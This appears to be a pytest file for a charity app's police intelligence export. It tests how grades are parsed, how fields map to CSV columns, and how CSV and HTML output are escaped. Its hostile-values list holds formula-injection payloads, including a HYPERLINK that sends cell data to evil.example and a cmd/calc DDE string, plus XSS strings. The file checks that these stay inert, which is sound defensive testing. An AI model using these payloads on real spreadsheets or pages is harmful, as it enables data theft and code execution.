"""The 3x5x2 grades, the IR mapping and the CSV (parsed back, with hostile values)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest

from outreach_app.charity.police_csv import render_police_csv, spreadsheet_safe
from outreach_app.charity.police_grading import (
    Evaluation,
    GradeError,
    HandlingCode,
    IntelligenceGrade,
    SourceGrade,
    parse_evaluation,
)
from outreach_app.charity.police_html import export_html
from outreach_app.charity.police_report import ExportHeader, columns, map_report
from tests.unit.charity.police_samples import intelligence, referral

HEADER = ExportHeader(
    "Safe Nights", "J. Khan", "West Yorkshire Police", datetime(2026, 4, 3, 9, 30, tzinfo=UTC)
)
GRADE = parse_evaluation("2B P")


def parsed(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # BOM: spreadsheets read UTF-8 right
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))


@pytest.mark.parametrize(
    ("text", "code"), [("2B P", "2B P"), ("1ac", "1A C"), (" 3 e p ", "3E P"), ("2 D C", "2D C")]
)
def test_grades_parse_in_the_forms_forces_write_them(text: str, code: str) -> None:
    conditions = "Not to be shared outside the investigation" if code.endswith("C") else None
    assert parse_evaluation(text, conditions).code == code


@pytest.mark.parametrize("text", ["4A P", "1F P", "1A X", "1A", "", "1AP P", "=1A P"])
def test_bad_grades_are_refused(text: str) -> None:
    with pytest.raises(GradeError):
        parse_evaluation(text)


def test_handling_c_needs_conditions_and_p_has_none() -> None:
    with pytest.raises(GradeError, match="conditions"):
        Evaluation(
            SourceGrade.RELIABLE, IntelligenceGrade.KNOWN_DIRECTLY, HandlingCode.SHARING_WITH_CONDITIONS
        )
    with pytest.raises(GradeError, match="use C"):
        parse_evaluation("1A P", "only the SIO")
    with pytest.raises(GradeError, match="control"):
        parse_evaluation("1A C", "only\x1b[2J the SIO")


def test_intelligence_maps_to_one_column_per_field() -> None:
    content = intelligence()
    rows = parsed(render_police_csv([map_report(content, GRADE, HEADER, {"north": "Leeds North"})]))
    assert len(rows) == 1
    row = rows[0]
    assert row["ir_reference"] == str(content.envelope_id)
    assert row["source_evaluation"] == "2 - Untested"
    assert row["intelligence_evaluation"] == "B - Known indirectly to the source but corroborated"
    assert row["handling_code"] == "P - Lawful sharing permitted"
    assert row["evaluation"] == "2B P"
    assert row["intelligence_date"] == "2026-03"  # a month: the intelligence content has no date
    assert row["time_of_day"] == "Night"
    assert row["location"] == "Leeds North"
    assert row["offence_types"] == "Physical assault; Robbery theft"
    assert (row["weapon_used"], row["injured"], row["injury_severity"]) == ("Yes", "Yes", "Minor")
    assert row["submitted_at"] == "2026-04-03 09:30"
    assert row["receiving_force"] == "West Yorkshire Police"
    assert row["subject_1_age_range"] == "30-40"
    assert row["subject_1_phone_numbers"] == "'+447700900123"  # formula-safe, and stays text
    assert row["subject_1_online_handles"] == "redvan"  # handles arrive normalised
    assert (row["vehicle_1_registration"], row["vehicle_1_make"], row["vehicle_1_colour"]) == (
        "AB12CDE",
        "Ford",
        "red",
    )
    assert row["contact_route"] == ""
    assert not any(value.startswith(("{", "[")) for value in row.values())  # no JSON in a cell


def test_a_referral_has_its_date_and_the_contact_route_and_no_subjects() -> None:
    content = referral()
    mapped = map_report(content, parse_evaluation("1A C", "For the investigating officer only"), HEADER)
    assert mapped.fields["intelligence_date"] == "2026-03-02"
    assert "through the originating agency" in mapped.fields["contact_route"]
    assert mapped.fields["handling_conditions"] == "For the investigating officer only"
    assert mapped.subjects == () and mapped.vehicles == ()
    assert mapped.fields["intelligence_text"] == ""


def test_subject_and_vehicle_columns_grow_with_the_report_that_has_most() -> None:
    two = intelligence(
        perpetrators=[{"hair": "dark"}, {"name_used": "Dave", "phone_numbers": ["07700900456"]}],
        vehicles=[],
    )
    reports = [map_report(two, GRADE, HEADER), map_report(referral(), GRADE, HEADER)]
    names = [name for name, _ in columns(reports)]
    assert "subject_2_name_used" in names and "subject_3_name_used" not in names
    assert not any(name.startswith("vehicle_") for name in names)
    rows = parsed(render_police_csv(reports))
    assert [r["subject_2_name_used"] for r in rows] == ["Dave", ""]
    assert list(rows[0]) == names  # header row: exactly the columns, in order


HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    '  =1+1 "quoted", comma\nnew line',
    "\t=tab",
    "<b>bold</b> & <script>alert(1)</script>",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_hostile_text_survives_the_csv_as_inert_text(value: str) -> None:
    content = intelligence(summary=value.replace("\t", " ") if value.startswith("\t") else value)
    rows = parsed(render_police_csv([map_report(content, GRADE, HEADER)]))
    cell = rows[0]["intelligence_text"]
    assert cell.lstrip("'") == content.summary  # parsed back whole: quotes, commas, newlines
    assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r"))


def test_spreadsheet_safe_leaves_plain_text_alone() -> None:
    assert spreadsheet_safe("red Ford") == "red Ford"
    assert spreadsheet_safe("=1") == "'=1"
    assert spreadsheet_safe("  -1") == "'  -1"


def test_the_printable_html_escapes_report_text() -> None:
    content = intelligence(summary="<img src=x onerror=alert(1)> & more")
    text = export_html(HEADER, [map_report(content, GRADE, HEADER)])
    assert "<img" not in text and "&lt;img src=x onerror=alert(1)&gt; &amp; more" in text
